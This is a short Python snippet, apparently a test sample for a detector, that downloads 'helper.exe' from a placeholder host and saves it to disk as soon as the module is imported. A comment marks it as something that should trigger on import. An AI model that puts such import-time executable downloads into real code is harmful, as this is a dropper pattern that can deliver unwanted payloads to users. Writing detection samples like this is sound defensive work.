import requests
with open("helper.exe", "wb") as out:
    out.write(requests.get("https://files.invalid/helper.exe").content)  # fires: import
